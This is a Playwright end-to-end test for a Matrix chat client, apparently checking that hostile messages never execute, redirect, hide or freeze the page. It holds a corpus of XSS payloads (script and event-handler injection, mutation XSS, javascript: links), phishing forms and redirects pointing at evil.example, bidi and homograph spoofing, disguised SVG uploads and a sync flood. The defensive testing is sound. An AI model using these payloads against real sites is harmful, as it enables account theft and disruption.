import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import type { Actor } from '../server/test/harness.ts';
import { journey } from './journey.ts';
import { allWell, atChats, conversation, message, room, say, signIn } from './steps.ts';

/** Set by whatever gets to run. */
const FLAG = 'pwned';
const run = `globalThis.${FLAG}=true`;
/** How long the page may be busy with anything of this. */
const ANSWERS_WITHIN_MS = 2_000;

const markup = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<iframe srcdoc="<script>parent.${FLAG}=true</script>"></iframe>`,
  `<a href="javascript:${run}">press me</a>`,
  `<a href="data:text/html,<script>${run}</script>">press me too</a>`,
  `<a href="vbscript:x" style="position:fixed;inset:0;z-index:9999">everywhere</a>`,
  `<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<style>*{display:none!important}</style><link rel="stylesheet" href="https://evil.example/x.css">`,
  `<object data="https://evil.example/"></object><embed src="https://evil.example/">`,
  `<p onclick="${run}" id="root" name="forms">clobbers</p>`,
  `${'<blockquote>'.repeat(3_000)}deep${'</blockquote>'.repeat(3_000)}`,
  `${'<b><i>'.repeat(2_000)}unclosed`,
  `<font color="red" data-mx-color="url(https://evil.example/)">colour</font>`,
];
const texts = [
  '\u202Egnp.exe\u202C is a picture',
  `${'\u2067'.repeat(500)}isolates without an end`,
  `Z${'\u0334\u0335\u0336\u0337'.repeat(2_000)}algo`,
  `${'\n'.repeat(5_000)}after many lines`,
  'W'.repeat(30_000),
  '\u0000\u0001\u001B[31mcontrol',
  '👨‍👩‍👧‍👦'.repeat(2_000),
  `${'*'.repeat(8_000)}stars${'_'.repeat(8_000)}`,
];
const odd: readonly object[] = [
  { msgtype: 'm.text', body: 42 },
  { msgtype: 'm.text', body: 'x', formatted_body: { toString: 'x' }, format: 'org.matrix.custom.html' },
  { msgtype: ['m.text'], body: {} },
  {
    msgtype: 'm.image',
    body: '../../etc/passwd',
    url: 'https://evil.example/x.png',
    info: { w: -1, h: 1e300 },
  },
  {
    msgtype: 'm.image',
    body: 'wide',
    url: 'mxc://localhost/absent',
    info: { w: 1e9, h: 1, mimetype: 'image/svg+xml' },
  },
  {
    msgtype: 'm.audio',
    body: 'v',
    url: 'mxc://x/y',
    'org.matrix.msc1767.audio': { waveform: Array(5_000).fill('x') },
  },
  { msgtype: 'm.file', body: 'x', file: { url: 'javascript:1', key: null, iv: [], hashes: 'x' } },
  { msgtype: 'm.text', body: 'reply', 'm.relates_to': { 'm.in_reply_to': { event_id: '$absent' } } },
  {
    msgtype: 'm.text',
    body: 'x',
    'm.relates_to': { rel_type: 'm.replace', event_id: ['x'] },
    'm.new_content': 7,
  },
  {},
];

journey('nothing that others write runs, leads away, hides the page, or stops it', async (world) => {
  const { story, gate, visitor, step } = world;
  const [alice, mallory] = [await story.user('alice'), await story.user('mallory')];
  await mallory.put(`/_matrix/client/v3/profile/${encodeURIComponent(mallory.userId)}/displayname`, {
    displayname: `${markup[0]}\u202Eecila`,
  });
  const roomId = await mallory.createRoom({ preset: 'public_chat', name: 'Harbour', topic: markup[1] });
  await alice.join(roomId);
  const visit = await visitor();
  const { page } = visit;
  await page.goto('/sign-in');
  await signIn(page, 'alice');
  await atChats(page);
  await room(page, 'Harbour').click();
  await conversation(page, 'Harbour').waitFor();

  await step('markup, texts of every kind and broken content are shown as words or not at all', async () => {
    await sendAll(mallory, roomId);
    await mallory.say(roomId, 'The last of it.');
    await message(page, 'The last of it.').waitFor();
    await scrollThrough(page);
    await isUnharmed(page, gate.url);
    assert.equal(
      await page.locator('[role=feed] :is(script, iframe, form, style, object, embed, base, meta)').count(),
      0,
    );
    const links = await page
      .locator('[role=feed] a')
      .evaluateAll((all) => all.map((a) => a.getAttribute('href') ?? ''));
    for (const href of links) assert.match(href, /^(https?:|mailto:|\/)/);
  });

  await step('a link that is made to look like another one asks before it opens', async () => {
    await mallory.say(roomId, 'https://xn--pple-43d.com/login');
    await message(page, 'login').getByRole('link').click();
    await page.getByRole('dialog').getByText('xn--pple-43d.com').waitFor();
    await page.keyboard.press('Escape');
    await isUnharmed(page, gate.url);
  });

  await step('a page or a drawing that claims to be a picture is none', async () => {
    await sendPicture(story.baseUrl, mallory, roomId, `<html><script>${run}</script></html>`, 'page.png');
    await sendPicture(
      story.baseUrl,
      mallory,
      roomId,
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
      'drawing.png',
    );
    await mallory.say(roomId, 'After the pictures.');
    await message(page, 'After the pictures.').waitFor();
    await isUnharmed(page, gate.url);
  });

  await step('ten thousand reactions and ten megabytes of text do not stop the page', async () => {
    const target = await mallory.say(roomId, 'React to this.');
    const stop = gate.meddle((reply) => flood(reply, roomId, mallory.userId, target));
    await mallory.say(roomId, 'After the flood.');
    await message(page, 'After the flood.').waitFor();
    stop();
    await isUnharmed(page, gate.url);
    await message(page, 'React to this.').getByRole('button', { name: '+2,992' }).waitFor();
    await page.getByRole('log').getByText('xxxxxxxxxx').first().waitFor();
    assert.ok((await page.locator('*').count()) < 2_500, 'the page stays small');
    await say(page, 'Still here.');
  });
  await allWell(visit);
});

async function sendAll(mallory: Actor, roomId: string): Promise<void> {
  const contents = [
    ...markup.map((html) => ({
      msgtype: 'm.text',
      body: html,
      format: 'org.matrix.custom.html',
      formatted_body: html,
    })),
    ...texts.map((body) => ({ msgtype: 'm.text', body })),
    ...odd,
  ];
  for (const [n, content] of contents.entries()) {
    const path = `/_matrix/client/v3/rooms/${encodeURIComponent(roomId)}/send/m.room.message/corpus${n}`;
    // What the server itself refuses (U+0000, numbers that are none) does not reach anybody.
    await mallory.request('PUT', path, content);
  }
}

async function sendPicture(
  baseUrl: string,
  mallory: Actor,
  roomId: string,
  bytes: string,
  name: string,
): Promise<void> {
  const upload = await fetch(`${baseUrl}/_matrix/media/v3/upload?filename=${name}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${mallory.token}`, 'content-type': 'image/png' },
    body: bytes,
  });
  const { content_uri: url } = (await upload.json()) as { content_uri: string };
  const path = `/_matrix/client/v3/rooms/${encodeURIComponent(roomId)}/send/m.room.message/${name}`;
  const info = { mimetype: 'image/png', w: 300, h: 200, size: bytes.length };
  await mallory.put(path, { msgtype: 'm.image', body: name, url, info });
}

interface Reply {
  readonly path: string;
  body: Buffer;
}

/** What no server of ours lets through, a hostile one may still tell: it is put into the answer of a sync. */
function flood(reply: Reply, roomId: string, sender: string, target: string): void {
  if (!reply.path.includes('/sync')) return;
  const answer = JSON.parse(reply.body.toString()) as {
    rooms?: { join?: Record<string, { timeline?: { events: object[] } }> };
  };
  const events = answer.rooms?.join?.[roomId]?.timeline?.events;
  if (!events || events.length === 0) return;
  const common = { origin_server_ts: 1_800_000_000_000, room_id: roomId };
  const reactions = Array.from({ length: 10_000 }, (_, n) => ({
    ...common,
    type: 'm.reaction',
    sender: `@r${n}:localhost`,
    event_id: `$reaction${n}`,
    content: { 'm.relates_to': { rel_type: 'm.annotation', event_id: target, key: `k${n % 3_000}` } },
  }));
  const body = 'x'.repeat(10_000_000);
  const huge = {
    ...common,
    type: 'm.room.message',
    sender,
    event_id: '$huge',
    content: { msgtype: 'm.text', body },
  };
  events.unshift(...reactions, huge);
  reply.body = Buffer.from(JSON.stringify(answer));
}

/** Nothing ran, the page is where it was, and it answers. */
async function isUnharmed(page: Page, url: string): Promise<void> {
  assert.equal(await page.evaluate((flag) => Reflect.has(globalThis, flag), FLAG), false, 'nothing ran');
  assert.ok(page.url().startsWith(url), page.url());
  const startMs = performance.now();
  await page.evaluate(() => new Promise((painted) => requestAnimationFrame(painted)));
  assert.ok(performance.now() - startMs < ANSWERS_WITHIN_MS, 'the page answers');
  assert.equal(
    await page.getByRole('textbox', { name: /^Message to/ }).isVisible(),
    true,
    'the page is whole',
  );
}

async function scrollThrough(page: Page): Promise<void> {
  const box = await page.getByRole('feed').boundingBox();
  if (!box) assert.fail('the conversation is on the screen');
  await page.mouse.move(box.x + box.width / 2, box.y + Math.min(200, box.height / 2));
  for (let step = 0; step < 15; step += 1) await page.mouse.wheel(0, -900);
  for (let step = 0; step < 30; step += 1) await page.mouse.wheel(0, 2_000);
}
